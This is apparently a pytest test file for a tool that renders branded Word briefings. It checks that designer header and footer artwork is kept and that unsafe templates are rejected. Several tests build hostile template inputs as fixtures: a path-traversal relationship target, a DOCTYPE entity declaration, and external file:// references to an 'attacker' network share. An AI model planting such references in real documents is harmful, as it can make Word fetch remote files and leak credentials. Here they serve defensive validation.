"""A designer's header and footer artwork in the brand template survives, with our lines added."""
from __future__ import annotations

import io
import struct
import zipfile

import pytest
import zlib

from reporttool.brand.folder import check_brand, load_brand
from reporttool.docx.render import render_docx

from .briefings import sample_briefing
from .conftest import ooxml_check
from .docx_reading import NS, part, text, w
from .test_docx_styles import copy_brand

MC = "http://schemas.openxmlformats.org/markup-compatibility/2006"
W14 = "http://schemas.microsoft.com/office/word/2010/wordml"
OFFICE_RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def png(rgb: tuple[int, int, int]) -> bytes:
    """A one-pixel PNG of a colour: the designer's band picture."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    pixels = zlib.compress(b"\x00" + bytes(rgb))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", pixels) + chunk(b"IEND", b""))


BAND = png((0x8B, 0x1E, 0x3F))
# The designer's picture deliberately reuses our relationship id and our logo's file name.
DESIGNER_HEADER = f"""<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<w:hdr xmlns:w="{NS['w']}" xmlns:r="{NS['r']}" xmlns:wp="{NS['wp']}" xmlns:a="{NS['a']}"
 xmlns:pic="{NS['pic']}" xmlns:mc="{MC}" xmlns:w14="{W14}" mc:Ignorable="w14">
<w:p w14:paraId="1A2B3C4D"><w:r><w:drawing><wp:inline><wp:extent cx="5400000" cy="90000"/>
<wp:docPr id="1" name="Band" descr="Brand band"/><a:graphic>
<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr>
<pic:cNvPr id="0" name="band.png"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:embed="rIdLogo"/>
<a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/>
<a:ext cx="5400000" cy="90000"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr>
</pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>
<w:r><w:t>DESIGNER BAND</w:t></w:r></w:p></w:hdr>""".encode()
DESIGNER_FOOTER = f"""<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<w:ftr xmlns:w="{NS['w']}"><w:p><w:r><w:t>DESIGNER FOOTER</w:t></w:r></w:p></w:ftr>""".encode()


def brand_with_artwork(tmp_path, picture_target: str = "media/logo.png"):
    """The default brand, its template given a header (picture and text) and a footer (text)."""
    template = (tmp_path / "meridian.docx")
    template.write_bytes(load_brand("meridian").template.read_bytes())
    with zipfile.ZipFile(template) as package:
        files = {n: package.read(n) for n in package.namelist()}
    refs = '<w:headerReference w:type="default" r:id="rId8"/><w:footerReference w:type="default" r:id="rId9"/>'
    rels = (f'<Relationship Id="rId8" Type="{OFFICE_RELS}/header" Target="header3.xml"/>'
            f'<Relationship Id="rId9" Type="{OFFICE_RELS}/footer" Target="/word/footer7.xml"/></Relationships>')
    types = ('<Default Extension="png" ContentType="image/png"/>'
             '<Override PartName="/word/header3.xml" ContentType="application/vnd.openxmlformats-officedocument.'
             'wordprocessingml.header+xml"/></Types>')
    header_rels = (f'<Relationships xmlns="{NS["rel"]}"><Relationship Id="rIdLogo" '
                   f'Type="{OFFICE_RELS}/image" Target="{picture_target}"/></Relationships>')
    document = files["word/document.xml"].replace(b"<w:sectPr>", b"<w:sectPr>" + refs.encode())
    return copy_brand(tmp_path, document=document,
                      parts={"word/_rels/document.xml.rels":
                             files["word/_rels/document.xml.rels"].replace(b"</Relationships>", rels.encode()),
                             "[Content_Types].xml": files["[Content_Types].xml"].replace(b"</Types>", types.encode()),
                             "word/header3.xml": DESIGNER_HEADER, "word/footer7.xml": DESIGNER_FOOTER,
                             "word/_rels/header3.xml.rels": header_rels.encode(), "word/media/logo.png": BAND})


def picture(data: bytes, header, rels, name: str) -> bytes:
    """The bytes of the picture a drawing (found by its wp:docPr name) shows."""
    embed = header.xpath(f"//w:drawing[.//wp:docPr/@name='{name}']//a:blip/@r:embed", namespaces=NS)
    assert len(embed) == 1
    target = rels.xpath(f"//rel:Relationship[@Id='{embed[0]}']/@Target", namespaces=NS)
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        return package.read(f"word/{target[0]}")


def test_designer_header_and_footer_artwork_is_kept_with_our_logo_tlp_and_page_fields(tmp_path):
    folder = brand_with_artwork(tmp_path)
    assert check_brand(folder) == []
    brand = load_brand(folder)
    data = render_docx(sample_briefing(), brand)
    header, rels = part(data, "word/header1.xml"), part(data, "word/_rels/header1.xml.rels")
    paragraphs = header.findall(w("p"))
    assert "TLP:AMBER" in text(paragraphs[0]) and text(paragraphs[1]) == "DESIGNER BAND"  # our line on top
    assert picture(data, header, rels, "Band") == BAND
    assert picture(data, header, rels, "Logo") == brand.logo.read_bytes()
    assert sorted(header.xpath("//wp:docPr/@id", namespaces=NS)) == ["1", "2"]
    assert header.xpath("//w:p/@w14:paraId", namespaces={**NS, "w14": W14}) == ["1A2B3C4D"]

    footer = part(data, "word/footer1.xml")
    assert [text(p) for p in footer.findall(w("p"))][0] == "DESIGNER FOOTER"
    assert "MRA-2025-017" in text(footer.findall(w("p"))[1])
    assert [i.strip() for i in footer.xpath("//w:instrText/text()", namespaces=NS)] == ["PAGE", "NUMPAGES"]

    types = part(data, "[Content_Types].xml")
    band = rels.xpath("//rel:Relationship[@Id!='rIdLogo']/@Target", namespaces=NS)[0]
    assert types.xpath(f"//*[@PartName='/word/{band}']/@ContentType") == ["image/png"]
    sect = part(data).find(w("body"))[-1]
    assert len(sect.findall(w("headerReference"))) == len(sect.findall(w("footerReference"))) == 1
    (tmp_path / "artwork.docx").write_bytes(data)
    ooxml_check(tmp_path / "artwork.docx")


def test_artwork_builds_are_byte_identical(tmp_path):
    brand = load_brand(brand_with_artwork(tmp_path))
    assert render_docx(sample_briefing(), brand) == render_docx(sample_briefing(), brand)


def test_second_brand_shows_its_designer_bands_above_and_below_the_page():
    brand = load_brand("northgate")
    data = render_docx(sample_briefing(), brand)
    with zipfile.ZipFile(brand.template) as package:
        bands = {k: package.read(f"word/media/{k}-band.png") for k in ("header", "footer")}
    header, footer = part(data, "word/header1.xml"), part(data, "word/footer1.xml")
    assert picture(data, header, part(data, "word/_rels/header1.xml.rels"), "Header band") == bands["header"]
    assert picture(data, footer, part(data, "word/_rels/footer1.xml.rels"), "Footer band") == bands["footer"]
    assert picture(data, header, part(data, "word/_rels/header1.xml.rels"), "Logo") == brand.logo.read_bytes()
    assert header.xpath("//wp:anchor/@behindDoc", namespaces=NS) == ["1"]
    assert "Page 1 of 1" in text(footer)


def test_a_header_picture_missing_from_the_template_is_reported(tmp_path):
    issues = check_brand(brand_with_artwork(tmp_path, picture_target="media/missing.png"))
    assert [i.code for i in issues] == ["bad-brand"]
    assert "word/media/missing.png" in issues[0].message


@pytest.mark.parametrize("target, words", [("document.xml", "refers to word/document.xml"),
                                           ("../docProps/core.xml", "refers to docProps/core.xml"),
                                           ("file:///\\\\attacker\\share\\x.png", "only http(s) and mailto")])
def test_header_artwork_cannot_reach_outside_its_pictures(tmp_path, target, words):
    # a template is a file anyone can hand over: it must not swap the body, the properties, or make Word
    # fetch a file from someone's network share
    brand = brand_with_artwork(tmp_path, picture_target=target)
    if target.startswith("file:"):
        rels = brand / "template.docx"
        with zipfile.ZipFile(rels) as package:
            files = {n: package.read(n) for n in package.namelist()}
        files["word/_rels/header3.xml.rels"] = files["word/_rels/header3.xml.rels"].replace(
            b'Target=', b'TargetMode="External" Target=')
        with zipfile.ZipFile(rels, "w") as package:
            for name, data in files.items():
                package.writestr(name, data)
    issues = check_brand(brand)
    assert [i.code for i in issues] == ["bad-brand"] and words in issues[0].message


def test_a_template_declaring_entities_is_refused(tmp_path):
    settings = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa">]><w:settings xmlns:w="x">&a;</w:settings>'
    issues = check_brand(copy_brand(tmp_path, parts={"word/settings.xml": settings}))
    assert [i.code for i in issues] == ["bad-brand"] and "DOCTYPE" in issues[0].message


def test_relationships_of_template_parts_that_are_not_copied_leave_no_dangling_reference(tmp_path):
    # Word saves a template's attached template (often on a network share) in settings.xml's own
    # relationships and printer settings in the section; those parts are not copied, and a reference left
    # behind makes Word call the briefing corrupt (and the network path would be fetched on opening)
    template = load_brand("meridian").template
    with zipfile.ZipFile(template) as package:
        settings, document = package.read("word/settings.xml"), package.read("word/document.xml")
    settings = settings.replace(b"<w:settings ", f'<w:settings xmlns:r="{OFFICE_RELS}" '.encode(), 1).replace(
        b'<w:zoom w:percent="100"/>', b'<w:zoom w:percent="100"/><w:attachedTemplate r:id="rId1"/>')
    settings_rels = (f'<Relationships xmlns="{NS["rel"]}"><Relationship Id="rId1" Type="{OFFICE_RELS}/'
                     'attachedTemplate" Target="file:///\\\\attacker\\share\\Normal.dotm" TargetMode="External"/>'
                     '</Relationships>')
    document = document.replace(b"</w:sectPr>", b'<w:printerSettings r:id="rId77"/></w:sectPr>')
    assert b"attachedTemplate" in settings and b"printerSettings" in document
    brand = load_brand(copy_brand(tmp_path, document=document, parts={
        "word/settings.xml": settings, "word/_rels/settings.xml.rels": settings_rels.encode()}))
    data = render_docx(sample_briefing(), brand)
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        names = set(package.namelist())
    for name in sorted(n for n in names if n.endswith(".xml") and "/_rels/" not in n):
        used = set(part(data, name).xpath("//@r:*", namespaces={"r": OFFICE_RELS}))
        rels_name = name.rsplit("/", 1)[0] + "/_rels/" + name.rsplit("/", 1)[1] + ".rels" if "/" in name else ""
        known = {r.get("Id") for r in part(data, rels_name)} if rels_name in names else set()
        assert used <= known, (name, used - known)
    assert b"attacker" not in data
